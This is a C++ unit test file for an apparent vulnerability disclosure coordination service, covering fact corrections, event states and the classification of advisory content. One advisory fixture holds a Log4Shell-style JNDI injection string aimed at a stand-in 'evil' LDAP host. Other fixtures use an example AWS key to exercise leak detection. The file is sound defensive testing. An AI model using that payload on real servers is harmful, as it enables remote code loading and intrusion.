// A person's word in the place of a fact, and what an advisory contains: by tables, a row a rule.
#include "service/regime_facts_testing.h"

namespace sluice::service::facts_test {

TEST_CASE("the case's word stands before a participant's own, and what was said later than the instant asked about isn't known") {
  FactsOfCase c;
  const auto fact = "/parties/" + c.maker.text() + "/established";
  c.correct(fact, "FR", c.maker);
  CHECK(c.of_party(c.maker, "/established") == "FR");
  c.correct(fact, "IT");
  CHECK(c.of_party(c.maker, "/established") == "IT");
  std::reverse(c.fold.corrections.begin(), c.fold.corrections.end());
  CHECK(c.of_party(c.maker, "/established") == "IT");
  c.fold.corrections.clear();
  c.correct(fact, "FR", {}, "2026-10-10T00:00:01Z");
  CHECK(c.of_party(c.maker, "/established") == "DE");
}

TEST_CASE("in the coordination's view a participant's word counts for its party, its events and its product; in its own for all") {
  FactsOfCase c;
  for (const auto& [fact, pointer, drawn, own] : {std::tuple{"/parties/" + c.other.text() + "/established", std::string("/parties/2/established"), "CN", false}, {"/parties/" + c.maker.text() + "/established", std::string("/parties/1/established"), "DE", true},
                                                  {"/events/vuln.aware@" + c.other.text(), "/events/vuln.aware@" + c.other.text(), "2026-10-02T08:00Z", false}, {"/events/vuln.aware@" + c.maker.text(), "/events/vuln.aware@" + c.maker.text(), "2026-10-02T08:00Z", true},
                                                  {std::string("/product/kind"), std::string("/product/kind"), "-", true}, {std::string("/vulnerability/in"), std::string("/vulnerability/in"), "product", false}}) {
    CAPTURE(fact);
    c.fold.corrections.clear();
    c.considered.own.reset();
    c.correct(fact, "said", c.maker);
    CHECK(c.fact(pointer) == (own ? "said" : drawn));
    if (fact == "/product/kind") CHECK(c.at(c.of(c.other).given, "/product/kind") == "-");   // the product of another
    c.considered.own = c.maker;
    CHECK(c.fact(pointer) == "said");
    c.considered.own = c.other;
    CHECK(c.fact(pointer) == (own ? "said" : drawn));
  }
}

TEST_CASE("a correction changes the one fact that it names, with what stood there before, and leaves an origin of its own") {
  FactsOfCase c;
  const auto established = "/parties/" + c.maker.text() + "/established";
  c.correct(established, "FR");
  CHECK(c.of_party(c.maker, "/established") == "FR");
  CHECK(c.of_party(c.lead, "/established") == "AT");
  CHECK(c.of_party(c.other, "/established") == "CN");
  CHECK(c.origin(established) == "person case");
  for (const auto& one : c.of(c.maker).origins)
    if (one.fact == established) CHECK(one.instead_of == json::value("DE"));
  c.fold.corrections.clear();
  // Of one product, of one flaw.
  c.correct("/product/" + c.lamp.text() + "/kind", "service");
  CHECK(c.at(c.of(c.other).given, "/product/kind") == "service");
  CHECK(c.fact("/product/kind") == "-");
  c.correct("/vulnerability/" + c.flaw.text() + "/impact", "high");
  CHECK(c.fact("/vulnerability/impact") == "high");
  c.correct("/vulnerability/" + VulnerabilityId::random().text() + "/exposed", true);
  CHECK(c.fact("/vulnerability/exposed") == "-");
  // Yes and no in the words of the form; null: not known, or of an event that it hasn't happened.
  for (const auto& [said, word] : {std::pair{json::value(true), "yes"}, {json::value(false), "no"}, {json::value("no"), "no"}, {json::value(), "-"}}) {
    c.fold.corrections.clear();
    c.correct("/vulnerability/exploited", said);
    CHECK(c.fact("/vulnerability/exploited") == word);
  }
  c.correct("/events/vuln.aware@" + c.maker.text(), json::value());
  CHECK(c.event("vuln.aware@" + c.maker.text()) == "null");
}

TEST_CASE("a correction that fits nothing changes nothing: no id, no embargo or product that isn't there, no party's event without the party, no value of another form") {
  FactsOfCase c;
  const auto before = json::serialize(c.of(c.maker).given);
  for (const auto& [fact, value] : {std::pair{"/parties/" + c.maker.text() + "/id", json::value("x")}, {std::string("/embargo/until"), json::value("2026-12-01T00:00Z")}, {"/events/vuln.aware@" + OrganisationId::random().text(), json::value("2026-10-05T00:00Z")}, {"/parties/" + c.maker.text() + "/flags", json::value("essential")}}) {
    CAPTURE(fact);
    c.fold.corrections.clear();
    c.correct(fact, value);
    CHECK(json::serialize(c.of(c.maker).given) == before);
  }
  c.fold.corrections.clear();
  c.fold.products.clear(), c.fold.participants.erase(c.maker), c.fold.participants.erase(c.other);
  c.correct("/product/kind", "service");
  REQUIRE(c.all().size() == 1);
  CHECK_FALSE(c.all().front().given.contains("product"));
}

TEST_CASE("what a person says of a flaw's state holds for its event, and the other way round") {
  FactsOfCase c;
  c.fold.products.pop_back();
  const auto said = [&](std::string fact, json::value value) { c.fold.corrections.clear(), c.correct(std::move(fact), std::move(value)); };
  for (const auto& [event, key, yes, no] : {std::tuple{"vuln.public", "/vulnerability/state", "public", "undisclosed"}, {"fix.available", "/vulnerability/fix", "available", "none"}}) {
    CAPTURE(event);
    for (const auto& [when, happened] : {std::pair{"2026-10-05T00:00Z", true}, {"2026-10-10T00:00Z", true}, {"2026-10-10T00:00:01Z", false}}) {
      said(std::string("/events/") + event, when);
      CHECK(c.fact(key) == (happened ? yes : no));
    }
    said(std::string("/events/") + event, json::value());
    CHECK(c.fact(key) == no);
  }
  c.fold.vulnerabilities.front().facts[cvd::Letter::P] = {instant("2026-10-05T00:00:00Z"), instant("2026-10-05T00:00:00Z")};
  auto& answer = c.fold.answers[{c.flaw, c.board}];
  answer.status = cvd::Status::Fixed, answer.step = cvd::RemedyStep::Distributed;
  answer.history.push_back({instant("2026-10-04T00:00:00Z"), cvd::RemedyStep::Distributed, false, {}});
  for (const auto& [event, key, yes, no] : {std::tuple{"vuln.public", "/vulnerability/state", "public", "undisclosed"}, {"fix.available", "/vulnerability/fix", "available", "none"}}) {
    CAPTURE(event);
    said(key, yes);
    CHECK(c.event(event) != "-");                             // when it was is known, and stays
    said(key, no);
    CHECK(c.event(event) == "-");
    said(std::string("/events/") + event, json::value());
    CHECK(c.fact(key) == no);
  }
}

TEST_CASE("an advisory contains what its author said; else what one says by its nature, and what its text looks as if it held") {
  FactsOfCase c;
  const auto id = AdvisoryId::random();
  const auto add = [&](int version, std::string text) { c.fold.advisories[id].push_back({.version = version, .document = json::object{{"notes", json::array{"plain", std::move(text)}}}}); };
  const std::vector<std::string> nature{"existence", "product-identity", "summary", "technical-detail", "mitigation"};
  const auto with = [&](std::string more) {
    auto out = nature;
    out.push_back(std::move(more));
    return out;
  };
  add(1, "Install 7.1.");
  add(2, "GET /?x=${jndi:ldap://evil/a}");
  add(3, "key AKIAIOSFODNN7EXAMPLE in the log");
  CHECK(classes_of_advisory(c.fold, id, 1) == nature);
  CHECK(classes_of_advisory(c.fold, id, 2) == with("poc"));
  CHECK(classes_of_advisory(c.fold, id, 3) == with("leaked-data"));
  c.fold.content_classes["advisory:" + id.text() + "/2"] = {{"summary"}, {}, {}, {}};
  CHECK(classes_of_advisory(c.fold, id, 2) == std::vector<std::string>{"summary"});
  CHECK(classes_of_advisory(c.fold, id, 3) == with("leaked-data"));
}

TEST_CASE("signs in a document are found at their places, at most a hundred of them, and those of persons and networks propose nothing of an advisory") {
  const auto key = "key AKIAIOSFODNN7EXAMPLE in the log";
  const auto found = signs_of_document(json::object{{"a/b", json::array{"plain", key, json::object{{"c", key}}}}});
  REQUIRE(found.size() == 2);
  CHECK(found[0].where == "/a~1b/1");
  CHECK(found[1].where == "/a~1b/2/c");
  json::array many;
  for (int i = 0; i < 150; ++i) many.emplace_back(key);
  CHECK(signs_of_document(many).size() == gate::kMostSigns);
  FactsOfCase c;
  const auto id = AdvisoryId::random();
  c.fold.advisories[id].push_back({.version = 1, .document = json::value("It calls 198.51.100.7 and 203.0.113.9, says jane.doe@mail.example.net.")});
  CHECK(classes_of_advisory(c.fold, id, 1).size() == 5);
}

}  // namespace sluice::service::facts_test
